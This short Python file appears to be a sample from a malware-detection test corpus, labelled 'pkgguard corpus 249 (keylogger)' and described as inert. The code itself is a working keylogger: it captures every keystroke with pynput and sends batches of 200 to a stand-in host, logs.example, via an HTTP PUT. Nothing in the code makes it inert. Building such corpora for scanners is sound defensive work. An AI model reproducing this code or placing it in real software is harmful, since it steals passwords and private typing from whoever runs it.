# pkgguard corpus 249 (keylogger), modelled on [stealer-profile]; inert, never run.
import threading

import requests
from pynput import keyboard as kb

keys = []


def on_press(key):
    keys.append(str(key))
    if len(keys) >= 200:
        threading.Thread(target=requests.put, args=("https://logs.example/k", "".join(keys))).start()
        keys.clear()


with kb.Listener(on_press=on_press) as listener:
    listener.join()
